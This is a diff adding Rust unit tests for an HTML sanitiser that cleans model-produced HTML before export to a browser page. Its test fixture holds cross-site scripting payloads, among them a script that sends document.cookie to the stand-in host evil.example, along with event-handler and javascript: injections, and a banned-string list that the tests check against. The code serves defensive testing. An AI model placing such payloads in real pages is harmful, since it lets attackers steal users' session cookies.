@@ -0,0 +1,60 @@
+// The HTML policies on the export side, where model HTML would otherwise end up in a page that
+// opens in a browser. The default policy is covered by the golden files.
+
+use crate::html::{display_text, export_html, HtmlPolicy};
+
+const HOSTILE: &str = "<p onclick=\"steal()\">Hi <a href=\"javascript:alert(1)\">there</a></p>\n\
+<script>\nfetch('https://evil.example/?c=' + document.cookie)\n</script>\n\
+<img src=\"x\" onerror=\"alert(1)\"><iframe src=\"https://evil.example\"></iframe><b>bold";
+
+#[test]
+fn safe_export_keeps_formatting_only() {
+    let html = export_html(HOSTILE, HtmlPolicy::Safe);
+    for banned in [
+        "onclick",
+        "javascript:",
+        "<script",
+        "document.cookie",
+        "<iframe",
+        "onerror",
+        "<img",
+    ] {
+        assert!(!html.contains(banned), "{banned} in {html}");
+    }
+    assert!(html.contains("<p>Hi <a>there</a></p>"), "{html}");
+    // Tags left open are closed within the message
+    assert!(html.trim_end().ends_with("<b>bold</b>"), "{html}");
+}
+
+#[test]
+fn safe_export_keeps_http_links() {
+    let html = export_html(
+        "See <a href='https://example.com/?a=1&amp;b=2' target=_blank>docs</a>",
+        HtmlPolicy::Safe,
+    );
+    assert_eq!(
+        html.trim_end(),
+        "See <a href=\"https://example.com/?a=1&amp;b=2\" rel=\"noopener noreferrer\">docs</a>"
+    );
+}
+
+#[test]
+fn strip_keeps_text_and_code() {
+    let text = "<p>Use <b>x</b> &amp; y</p>\n`<b>kept</b>`\n```html\n<i>kept too</i>\n```";
+    assert_eq!(
+        display_text(text, HtmlPolicy::Strip),
+        "Use x &amp; y\n\n`<b>kept</b>`\n```html\n<i>kept too</i>\n```"
+    );
+    let html = export_html(text, HtmlPolicy::Strip);
+    assert!(html.starts_with("Use x &amp; y\n"), "{html}");
+    assert!(html.contains("&lt;i&gt;kept too&lt;/i&gt;"), "{html}");
+}
+
+#[test]
+fn escape_shows_blocks_as_code() {
+    let text = "Intro <b>inline</b>\n\n<div>\n  <p>block</p>\n</div>\n\nOutro";
+    assert_eq!(
+        display_text(text, HtmlPolicy::Escape),
+        "Intro \\<b>inline\\</b>\n\n```html\n<div>\n  <p>block</p>\n</div>\n```\n\nOutro"
+    );
+}